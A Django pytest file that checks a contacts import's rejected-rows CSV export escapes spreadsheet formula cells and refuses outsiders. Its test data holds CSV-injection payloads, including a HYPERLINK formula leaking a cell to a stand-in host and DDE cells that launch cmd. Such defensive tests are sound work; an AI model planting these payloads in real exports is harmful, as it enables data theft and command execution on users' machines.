"""The rejected-rows CSV: a spreadsheet opening it evaluates nothing the uploader wrote."""
import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from contacts.models import ImportJob

pytestmark = pytest.mark.django_db

# Every row is rejected (no valid email); each carries a cell a spreadsheet would run.
HOSTILE_CELLS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    " \t@SUM(A1)",
]


def _upload(client, text):
    return client.post(reverse("contacts:import-upload"),
                       {"file": SimpleUploadedFile("hostile.csv", text.encode(), content_type="text/csv")})


def _hostile_file():
    lines = ["Email,=cmd|' /C calc'!A0"]
    for number, cell in enumerate(HOSTILE_CELLS):
        out = io.StringIO()
        csv.writer(out).writerow([f"=not-an-email-{number}", cell])
        lines.append(out.getvalue().rstrip("\r\n"))
    return "\r\n".join(lines) + "\r\n"


def _import_everything_rejected(client, tenant, django_capture_on_commit_callbacks):
    assert _upload(client, _hostile_file()).status_code == 302
    job = ImportJob.objects.get(tenant=tenant)
    form = {"col_0": "email", "col_1": "", "duplicate_policy": "skip"}
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(reverse("contacts:import-detail", args=[job.pk]), form).status_code == 302
    job.refresh_from_db()
    assert job.rejected_count == len(HOSTILE_CELLS)
    return job


def test_the_rejected_rows_export_neutralises_every_formula_cell_and_keeps_its_text(
    rep_client, tenant, django_capture_on_commit_callbacks
):
    job = _import_everything_rejected(rep_client, tenant, django_capture_on_commit_callbacks)

    response = rep_client.get(reverse("contacts:import-rejected-csv", args=[job.pk]))

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    header, body = rows[0], rows[1:]
    assert header == ["line", "email", "reason", "Email", "'=cmd|' /C calc'!A0"]
    assert [row[4] for row in body] == ["'" + cell for cell in HOSTILE_CELLS]
    assert [row[1] for row in body] == [f"'=not-an-email-{n}" for n in range(len(HOSTILE_CELLS))]
    assert [row[3] for row in body] == [f"'=not-an-email-{n}" for n in range(len(HOSTILE_CELLS))]
    # Line numbers and reasons are written as they are (the quoted CR makes row 6 two lines).
    assert [row[0] for row in body] == ["2", "3", "4", "5", "6", "7", "9", "10"]
    assert all(row[2].startswith("invalid email") for row in body)


def test_an_outsider_cannot_download_the_rejected_rows(
    rep_client, tenant, outsider, django_capture_on_commit_callbacks
):
    job = _import_everything_rejected(rep_client, tenant, django_capture_on_commit_callbacks)
    rep_client.force_login(outsider)
    assert rep_client.get(reverse("contacts:import-rejected-csv", args=[job.pk])).status_code == 404
